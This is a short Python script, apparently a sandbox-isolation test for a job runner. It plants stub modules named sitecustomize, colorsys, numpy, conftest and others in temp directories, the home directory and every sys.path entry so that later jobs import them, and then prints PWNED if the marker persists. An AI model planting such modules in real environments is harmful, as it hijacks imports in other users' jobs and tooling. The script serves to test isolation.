"""Leave modules with the names of the library where the next job or the runner may import them.

Shows: PWNED on stdout.
Again: what was left is found.
"""

import os
import sys
import tempfile
from contextlib import suppress

if hasattr(sys, "lydite_attack"):
    print("PWNED")
code = "import sys; sys.lydite_attack = True\n"
for place in {
    ".",
    "/tmp",
    "/dev/shm",
    "..",
    tempfile.gettempdir(),
    os.path.expanduser("~"),
    *[path for path in sys.path if path],
}:
    for name in ("sitecustomize", "colorsys", "this", "jail", "numpy", "token", "conftest"):
        with suppress(OSError):
            if not os.path.exists(f"{place}/{name}.py"):
                with open(f"{place}/{name}.py", "w") as file:
                    file.write(code)
with suppress(ImportError, SystemExit):
    import colorsys

    print("the next job looks for this:", colorsys.__file__)
    del sys.lydite_attack
